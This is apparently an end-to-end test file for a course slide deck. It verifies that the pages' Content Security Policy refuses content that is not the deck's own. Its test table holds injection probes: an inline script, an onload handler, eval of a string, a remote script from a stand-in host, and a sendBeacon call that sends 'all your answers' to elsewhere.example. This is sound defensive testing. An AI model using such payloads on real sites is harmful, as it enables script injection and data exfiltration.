/**
 * What the deck never does on its pages: ask another origin for anything, or run and show what is not its own. Every slide at every click:
 * walk.test.ts; the lecturer's two windows: stage.test.ts; handouts and paper: tests/full/privacy-paper.test.ts.
 * Why end to end: browsers enforce the policy that the build writes into each page.
 */
import type { Page } from 'playwright-chromium'
import type { PageErrors } from '../support/open-deck.ts'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { questions } from '../../data/questions/index.ts'
import { openSlide, standStill, watch } from '../support/open-deck.ts'
import { noteRefused } from '../support/refused.ts'
import { useServedDeck } from '../support/served-deck.ts'

const pages = ['read', 'review', `review/q/${Object.keys(questions)[0]}`, 'handout', 'plan', 'plan?plan=single-hour', 'glossary', 'sources', 'not-found', 'no-such-slide']

const deck = useServedDeck('dist', '/courses/green/')
let page: Page
let pageErrors: PageErrors
/** What the pages' policy has refused: where, by which rule, and what. */
let refused: readonly string[]
/** Requests to elsewhere that came through. */
const reached: string[] = []

beforeAll(async () => {
  const context = await deck.browser.newContext({ viewport: { width: 1280, height: 720 }, reducedMotion: 'reduce', colorScheme: 'light' })
  refused = await noteRefused(context)
  pageErrors = watch(context, deck.origin)
  await context.route('https://elsewhere.example/**', (route) => {
    reached.push(route.request().url())
    return route.abort()
  })
  page = await context.newPage()
  await openSlide(page, deck.origin, 1)
})
afterAll(() => page.context().close())

describe('nothing leaves the origin, and nothing is refused', () => {
  it('on every page beside the slides', async () => {
    for (const path of pages) {
      await page.evaluate((hash) => { location.hash = hash }, `#/${path}`)
      // what there is not has a page of its own
      await page.waitForFunction(wanted => [wanted, '#/not-found'].some(start => location.hash.startsWith(start)), `#/${path.split('?')[0]}`)
      await page.locator('main h1').first().waitFor()
      await standStill(page)
    }
    expect(refused).toEqual([])
    expect(pageErrors).toEqual({ errors: [], outside: [] })
  })
})

describe('what is not the deck’s own is refused', () => {
  it.each([
    ['a script that stands in the page', 'script-src-elem', () => { document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.harm = 1' })) }],
    ['an event handler in markup', 'script-src-attr', () => { document.body.insertAdjacentHTML('beforeend', '<img src="favicon.svg" alt="" onload="window.harm = 1">') }],
    // eslint-disable-next-line no-implied-eval -- what must not run
    ['text that is run as a script', 'script-src', () => { setTimeout('window.harm = 1' as never) }],
    ['a script from elsewhere', 'script-src-elem', () => { document.body.append(Object.assign(document.createElement('script'), { src: 'https://elsewhere.example/harm.js' })) }],
    ['styles that markup brings', 'style-src-attr', () => { document.body.insertAdjacentHTML('beforeend', '<p style="color: red">harm</p>') }],
    ['a picture from elsewhere', 'img-src', () => { document.body.append(Object.assign(document.createElement('img'), { src: 'https://elsewhere.example/seen.gif' })) }],
    ['a message to elsewhere', 'connect-src', () => { navigator.sendBeacon('https://elsewhere.example/', 'all your answers') }],
    ['a frame', 'frame-src', () => { document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://elsewhere.example/' })) }],
    ['another ground for relative addresses', 'base-uri', () => { document.head.prepend(Object.assign(document.createElement('base'), { href: 'https://elsewhere.example/' })) }],
  ] as const)('%s', async (_, rule, attempt) => {
    const before = refused.length
    await page.evaluate(attempt)
    await expect.poll(() => refused.slice(before).map(what => what.split(' ')[1])).toContain(rule)
    expect(await page.evaluate(() => 'harm' in window)).toBe(false)
    expect(reached).toEqual([])
  })

  it('and no page that it links to is told where the reader comes from', async () => {
    await expect.poll(() => page.locator('meta[name=referrer]').getAttribute('content')).toBe('no-referrer')
  })
})
